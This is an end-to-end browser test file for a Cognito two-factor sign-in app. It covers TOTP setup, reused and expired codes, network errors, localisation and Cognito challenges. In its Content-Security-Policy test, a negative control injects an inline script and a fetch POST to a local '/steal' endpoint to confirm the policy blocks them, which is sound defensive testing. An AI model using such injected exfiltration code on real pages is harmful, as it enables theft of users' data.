// The article's "Testing" walk-through in a real headless Chromium, typing real TOTP codes,
// plus reuse and expiry, keyboard-only sign-in; axe-core on every screen in en and th, light and
// dark; screenshots of every screen in en and th with UPDATE_SCREENSHOTS=1.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { UPDATE_SCREENSHOTS, alertText, check, launch, openAuthenticatorSetup, openPage as openPageIn, screenshotPath, shoot, signIn as signInAt, signOut, typeCode, waitForAlert, wrongThenRightCode } from './browser.mjs';
import { APP_URL, COGNITO_URL, PASSWORD, POOL_ID, cognito, freshCode, lastDeliveredCode, newUser, setSessionTtl, withMfaRequired, wrongCode } from './lib.mjs';

let browser;

before(async () => { browser = await launch(); });
after(async () => { await browser?.close(); await setSessionTtl(180); });

const openPage = (size) => openPageIn(browser, size);
const signIn = (page, email, options) => signInAt(page, APP_URL, email, options);

describe('sign in → set up authenticator → sign in with TOTP', () => {
  test('the whole walk-through, as the article tests it', async () => {
    const email = await newUser('walk');
    const page = await openPage();

    // 1. Sign in without MFA (keyboard only) → home.
    await page.goto(`${APP_URL}/`);
    await page.waitForURL('**/login');
    await page.waitForSelector('#username');
    assert.equal(await page.title(), 'Sign in · Cognito 2FA');
    await shoot(page, 'login');
    await signIn(page, email, { keyboard: true });
    await page.waitForURL('**/home');
    await page.waitForSelector('.email');
    assert.equal(await page.locator('.email').innerText(), email);
    assert.match(await page.locator('[data-mfa=totp]').innerText(), /Off/);
    await shoot(page, 'home-before');

    // 2. Set up the authenticator: read the secret off the page, compute the code.
    await page.click('a[href="/setup-2fa"]');
    await page.getByRole('button', { name: 'Generate QR Code' }).waitFor();
    await check(page, 'setup before the QR code');
    const secret = await openAuthenticatorSetup(page, { alreadyThere: true });
    assert.match(secret, /^[A-Z2-7]{16,}$/);
    const link = await page.locator('a.open-in-app').getAttribute('href');
    assert.equal(link, `otpauth://totp/Cognito%202FA:${encodeURIComponent(email)}?secret=${secret}&issuer=Cognito%202FA`);
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: APP_URL });
    await page.getByRole('button', { name: 'Copy key' }).click();
    await page.getByRole('button', { name: 'Copied' }).waitFor();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), secret, 'the key is copied without spaces');
    await shoot(page, 'setup');
    await page.getByRole('button', { name: 'Continue to Verification' }).click();
    await page.waitForSelector('#code');
    await shoot(page, 'verify');
    await typeCode(page, wrongCode(secret));
    await waitForAlert(page, 'Incorrect code');
    assert.match(await alertText(page), /check that your phone's clock/i);
    await check(page, 'verify, wrong code');
    let { code, step } = freshCode(secret);
    await typeCode(page, code);
    await page.getByText('Authenticator setup successful!').waitFor();
    await shoot(page, 'success');

    // 3. Home shows TOTP on and preferred; sign out revokes and returns to the login form.
    await page.click('a[href="/home"]');
    await page.waitForSelector('[data-mfa=totp]');
    await page.waitForFunction(() => document.querySelector('[data-mfa=totp]').innerText.includes('On'));
    assert.match(await page.locator('[data-mfa=totp]').innerText(), /preferred/);
    await shoot(page, 'home');
    // Setting up again (a reload, which keeps the session) says TOTP is on instead of failing.
    await page.goto(`${APP_URL}/setup-2fa`);
    await page.getByText('Your authenticator app is already set up').waitFor();
    await check(page, 'already set up');
    await page.click('a[href="/home"]');
    await page.waitForSelector('[data-mfa=totp]');
    await signOut(page);

    // 4. Sign in again → MFA form with focus → wrong code → error → right code → home.
    await signIn(page, email);
    await page.waitForSelector('#code');
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'code', 'focus moves to the code field');
    assert.equal(await page.title(), 'Two-factor authentication · Cognito 2FA', 'the title names the step');
    await shoot(page, 'mfa');
    ({ code, step } = await wrongThenRightCode(page, secret, step, 'Incorrect code, please try again'));
    await page.waitForURL('**/home');
    await signOut(page);

    // 5. The same code a second time is refused.
    await signIn(page, email);
    await page.waitForSelector('#code');
    await typeCode(page, code);
    await waitForAlert(page, 'This code was already used');
    await check(page, 'mfa, reused code');

    // 6. Protected pages send a signed-out visitor to the login page; an unknown one says so.
    await page.goto(`${APP_URL}/no-such-page`);
    await page.getByText('This page could not be found.').waitFor();
    await check(page, 'not found');
    await page.goto(`${APP_URL}/home`);
    await page.waitForURL('**/login');
    await page.goto(`${APP_URL}/setup-2fa`);
    await page.waitForURL('**/login');
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });

  test('an expired Cognito session sends the user back to sign in, email kept', async () => {
    const email = await newUser('expiry');
    const page = await openPage();
    await signIn(page, email);
    await page.waitForURL('**/home');
    const secret = await openAuthenticatorSetup(page);
    await page.getByRole('button', { name: 'Continue to Verification' }).click();
    let { code, step } = freshCode(secret);
    await typeCode(page, code);
    await page.getByText('Authenticator setup successful!').waitFor();
    await page.click('a[href="/home"]');
    await signOut(page);

    await setSessionTtl(2);
    try {
      await signIn(page, email);
      await page.waitForSelector('#code');
      await page.waitForTimeout(2600);
      ({ code, step } = freshCode(secret, step));
      await typeCode(page, code);
      await waitForAlert(page, 'Your sign-in took too long');
      assert.equal(await page.inputValue('#username'), email, 'the email is kept');
    } finally {
      await setSessionTtl(180);
    }
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });

  test('a double click or an extra Enter while signing in sends one request', async () => {
    const email = await newUser('double');
    const page = await openPage();
    const targets = [];
    page.on('request', (r) => { const t = r.headers()['x-amz-target']; if (t) targets.push(t.split('.').pop()); });
    await page.goto(`${APP_URL}/login`);
    await page.fill('#username', email);
    await page.fill('#password', PASSWORD);
    await page.dblclick('button[type=submit]');
    await page.keyboard.press('Enter');
    await page.waitForURL('**/home');
    assert.deepEqual(targets.filter((t) => t === 'InitiateAuth'), ['InitiateAuth']);
    assert.deepEqual(targets.filter((t) => t === 'RespondToAuthChallenge'), ['RespondToAuthChallenge']);
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });

  test('a session ended elsewhere sends the user to sign in again, saying why', async () => {
    const email = await newUser('ended');
    const page = await openPage();
    await signIn(page, email);
    await page.waitForURL('**/home');
    await page.waitForSelector('.email');
    await cognito('AdminUserGlobalSignOut', { UserPoolId: POOL_ID, Username: email });
    // The set-up page reads the account first: that call finds the session over.
    await page.click('a[href="/setup-2fa"]');
    await page.waitForURL('**/login');
    await waitForAlert(page, 'Your session has ended. Please sign in again.');
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });

  test('the network failing is said plainly, and Try again recovers', async () => {
    const email = await newUser('offline');
    const page = await openPage();
    let failNext = false;
    await page.route(`${COGNITO_URL}/**`, (route) => {
      const target = route.request().headers()['x-amz-target'] ?? '';
      if (failNext && target.endsWith('.GetUser')) {
        failNext = false;
        return route.abort('internetdisconnected');
      }
      return route.continue();
    });
    await page.goto(`${APP_URL}/login`);
    await page.fill('#username', email);
    await page.fill('#password', PASSWORD);
    failNext = true;
    await page.click('button[type=submit]');
    await page.waitForURL('**/home');
    await waitForAlert(page, "Can't reach the sign-in service");
    await check(page, 'home, network error');
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.waitForSelector('.email');
    assert.equal(await page.locator('.email').innerText(), email);
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });

  test('dark mode: the page follows prefers-color-scheme', async () => {
    const page = await openPage({ colorScheme: 'dark' });
    await page.goto(`${APP_URL}/login`);
    await page.waitForSelector('#username');
    const background = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    assert.equal(background, 'rgb(16, 19, 26)');
    if (UPDATE_SCREENSHOTS) await page.screenshot({ path: screenshotPath('login-dark-en.png'), fullPage: true });
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });

  test('wrong password reads the same as an unknown account; Thai and a 375 px screen work', async () => {
    const email = await newUser('wrongpw');
    const page = await openPage({ width: 375, height: 740 });
    await page.goto(`${APP_URL}/login`);
    await page.click('button[lang=th]');
    await page.waitForFunction(() => document.documentElement.lang === 'th');
    await page.fill('#username', email);
    await page.fill('#password', 'Not-the-Passw0rd!');
    await page.click('button[type=submit]');
    await page.waitForFunction(() => document.querySelector('[role=alert]')?.innerText.length > 0);
    const wrongPassword = await alertText(page);
    assert.equal(wrongPassword, 'อีเมลหรือรหัสผ่านไม่ถูกต้อง');
    await check(page, 'login, wrong password, 375 px');
    if (UPDATE_SCREENSHOTS) await page.screenshot({ path: screenshotPath('login-error-mobile-th.png'), fullPage: true });
    await page.fill('#username', 'nobody-at-all@example.com');
    await page.fill('#password', PASSWORD);
    await page.click('button[type=submit]');
    await page.waitForFunction(() => !document.querySelector('button[type=submit]').disabled);
    assert.equal(await alertText(page), wrongPassword, 'no hint whether the account exists');
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth);
    assert.equal(overflow, false, 'no horizontal scrolling at 375 px');
    await page.reload();
    await page.waitForSelector('#username');
    assert.equal(await page.evaluate(() => document.documentElement.lang), 'th', 'the language choice is remembered');
    assert.deepEqual(await page.evaluate(() => Object.keys(localStorage)), ['lang'], 'nothing but the language in localStorage');
    assert.deepEqual(await page.evaluate(() => Object.keys(sessionStorage)), []);
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });
});

describe('a strict Content-Security-Policy', () => {
  test('the page is served with it, nothing relaxes it, and a violation is caught', async () => {
    const served = await fetch(`${APP_URL}/login`);
    const header = served.headers.get('content-security-policy');
    const directives = Object.fromEntries(header.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));
    assert.doesNotMatch(header, /'unsafe-inline'|'unsafe-eval'|\*/, header);
    assert.deepEqual(directives['default-src'], ["'none'"]);
    assert.deepEqual(directives['connect-src'], ["'self'", `${COGNITO_URL}/`], 'only the page itself and Cognito');
    assert.deepEqual(directives['script-src'].filter((s) => !s.startsWith("'sha256-")), ["'self'", "'wasm-unsafe-eval'"]);
    assert.ok(directives['script-src'].some((s) => s.startsWith("'sha256-")), 'the loader is allowed by its hash');
    for (const name of ['form-action', 'base-uri', 'frame-ancestors']) assert.deepEqual(directives[name], ["'none'"], name);
    assert.equal(served.headers.get('x-frame-options'), 'DENY');
    assert.equal(served.headers.get('x-content-type-options'), 'nosniff');
    assert.equal(served.headers.get('referrer-policy'), 'no-referrer');
    const html = await served.text();
    assert.ok(html.includes(`content="${header.replace("; frame-ancestors 'none'", '')}"`), 'the page carries the same policy');

    const page = await openPage();
    await page.goto(`${APP_URL}/login`);
    await page.waitForSelector('#username');
    assert.deepEqual(page.problems, [], 'the app itself runs within the policy');
    // A negative control: what an injected script would try is blocked, and the tests notice.
    await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.injected = true';
      document.head.append(s);
      fetch('http://127.0.0.1:9/steal', { method: 'POST', body: 'x' }).catch(() => {});
    });
    await page.waitForFunction(() => true);
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => window.injected), undefined, 'the inline script did not run');
    assert.ok(page.problems.some((p) => /CSP violation: script-src/.test(p)), page.problems.join('\n'));
    assert.ok(page.problems.some((p) => /CSP violation: connect-src/.test(p)), page.problems.join('\n'));
    await page.context().close();
  });
});

describe('the other challenges Cognito can answer a password with', () => {
  test('NEW_PASSWORD_REQUIRED: a temporary password is replaced, mismatches caught first', async () => {
    const email = `temp-${Date.now()}@example.com`;
    await cognito('AdminCreateUser', { UserPoolId: POOL_ID, Username: email, TemporaryPassword: 'Temp-Passw0rd!', MessageAction: 'SUPPRESS', UserAttributes: [{ Name: 'email', Value: email }] });
    const page = await openPage();
    await signIn(page, email, { password: 'Temp-Passw0rd!' });
    await page.waitForSelector('#new-password');
    assert.equal(await page.getAttribute('#new-password', 'autocomplete'), 'new-password');
    await shoot(page, 'new-password');
    await page.fill('#new-password', 'Mine-Passw0rd!');
    await page.fill('#confirm-password', 'Mine-Passw0rd?');
    await page.click('button[type=submit]');
    await page.getByText('The two passwords do not match.').waitFor();
    await check(page, 'new password, mismatch');
    await page.fill('#new-password', 'short');
    await page.fill('#confirm-password', 'short');
    await page.click('button[type=submit]');
    await waitForAlert(page, 'does not meet the requirements');
    await check(page, 'new password, refused');
    await page.fill('#new-password', 'Mine-Passw0rd!');
    await page.fill('#confirm-password', 'Mine-Passw0rd!');
    await page.click('button[type=submit]');
    await page.waitForURL('**/home');
    await signOut(page);
    await signIn(page, email, { password: 'Mine-Passw0rd!' });
    await page.waitForURL('**/home');
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });

  test('SELECT_MFA_TYPE, then an SMS code sent to the masked number', async () => {
    const email = await newUser('choose');
    await cognito('AdminUpdateUserAttributes', { UserPoolId: POOL_ID, Username: email, UserAttributes: [{ Name: 'phone_number', Value: '+15555550142' }] });
    await cognito('AdminSetUserMFAPreference', { UserPoolId: POOL_ID, Username: email, SMSMfaSettings: { Enabled: true }, EmailMfaSettings: { Enabled: true } });
    const page = await openPage();
    await signIn(page, email);
    await page.waitForSelector('.choices');
    await shoot(page, 'choose-mfa');
    await page.getByRole('button', { name: 'SMS code' }).click();
    await page.waitForSelector('#code');
    assert.equal(await page.locator('.destination').innerText(), '+*******0142');
    await check(page, 'sms code');
    const sent = await lastDeliveredCode(email);
    assert.equal(sent.medium, 'SMS');
    await typeCode(page, sent.code === '000000' ? '111111' : '000000');
    await waitForAlert(page, 'Incorrect code');
    await typeCode(page, sent.code);
    await page.waitForURL('**/home');
    assert.match(await page.locator('[data-mfa=sms]').innerText(), /On/);
    assert.deepEqual(page.problems, []);
    await page.context().close();
  });

  test('MFA_SETUP: a pool that requires MFA makes a new user add an authenticator while signing in', async () => {
    const email = await newUser('forced');
    await withMfaRequired(async () => {
      const page = await openPage();
      await signIn(page, email);
      await page.getByText('Two-factor authentication is required for your account').waitFor();
      await check(page, 'forced set-up, before the QR code');
      const { secret } = await (async () => {
        await page.getByRole('button', { name: 'Generate QR Code' }).click();
        await page.waitForSelector('figure.qr svg');
        return { secret: (await page.locator('code.secret').innerText()).replace(/\s/g, '') };
      })();
      assert.match(await page.locator('a.open-in-app').getAttribute('href'), new RegExp(encodeURIComponent(email)));
      await shoot(page, 'forced-setup');
      await page.getByRole('button', { name: 'Continue to Verification' }).click();
      await page.waitForSelector('#code');
      await check(page, 'forced set-up, verify');
      await wrongThenRightCode(page, secret, undefined, 'Incorrect code');
      await page.waitForURL('**/home');
      await page.waitForFunction(() => document.querySelector('[data-mfa=totp]')?.innerText.includes('On'));
      assert.deepEqual(page.problems, []);
      await page.context().close();
    });
  });
});
